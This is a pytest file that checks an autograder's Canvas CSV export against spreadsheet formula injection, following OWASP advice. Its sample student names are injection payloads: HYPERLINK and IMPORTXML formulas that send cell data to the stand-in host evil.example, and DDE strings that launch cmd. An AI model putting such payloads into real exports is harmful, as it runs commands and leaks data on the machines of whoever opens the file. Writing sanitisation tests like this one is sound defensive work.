"""The Canvas CSV, written by the real `nbgrader export` with our exporter from a real gradebook, opens in a
spreadsheet without running anything: a cell that starts like a formula (a learner's own name, here) is
text, and numbers stay numbers."""

import csv
import os
import subprocess
import sys
from pathlib import Path

import pytest

pytestmark = pytest.mark.xdist_group("canvas_export")
BIN = Path(sys.executable).parent
ENV = {**os.environ, "PATH": f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}"}  # nbgrader runs `alembic`
ASSIGNMENT = "02_attention"
STUDENTS = {  # id -> (first name, last name) as a learner may type them into the LMS
    "ada": ("Ada", "Lovelace"),
    "formula": (
        'HYPERLINK("http://evil.example/?"&A1,"grades")',
        '=IMPORTXML(CONCAT("http://evil.example/",B2),"//a")',
    ),
    "plus": ("cmd|' /C calc'!A0", "+1+"),
    "at": ("x", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "minus": ("x", "-2+3+cmd|' /C calc'!A0"),
    "tab": ("x", "\t=1+1"),
    "-42": ("", ""),  # a numeric id: stays a number
}


def nbgrader(course: Path, *args: str) -> None:
    done = subprocess.run([str(BIN / "nbgrader"), *args], cwd=course, env=ENV, capture_output=True, text=True)
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.fixture(scope="module")
def rows(tmp_path_factory):
    course = tmp_path_factory.mktemp("course")
    done = subprocess.run(
        [sys.executable, "-m", "autograder", "course", str(course), ASSIGNMENT], cwd=course, env=ENV, timeout=300
    )
    assert done.returncode == 0
    nbgrader(course, "db", "assignment", "add", ASSIGNMENT)
    for student, (first, last) in STUDENTS.items():
        nbgrader(course, "db", "student", "add", student, f"--first-name={first}", f"--last-name={last}")
    target = course / "canvas.csv"
    nbgrader(course, "export", "--exporter=autograder.canvas.CanvasExportPlugin", f"--to={target}")
    with open(target, newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def test_no_cell_starts_like_a_formula(rows):
    """OWASP's CSV-injection advice: a cell starting with = + - @, tab or carriage return is prefixed with '."""
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and c != "-42")] == []
    names = {row[2]: row[0] for row in rows[2:]}  # SIS User ID (the nbgrader id) -> Student
    first, last = STUDENTS["formula"]
    assert names["formula"] == f"'{last}, {first}"  # shown whole, as text
    assert names["tab"] == "'\t=1+1, x"


def test_numbers_stay_numbers(rows):
    assert rows[1] == ["Points Possible", "", "", "", "", "0"]  # no notebook in the gradebook yet
    assert {row[2]: row[0] for row in rows[2:]}["-42"] == "-42"
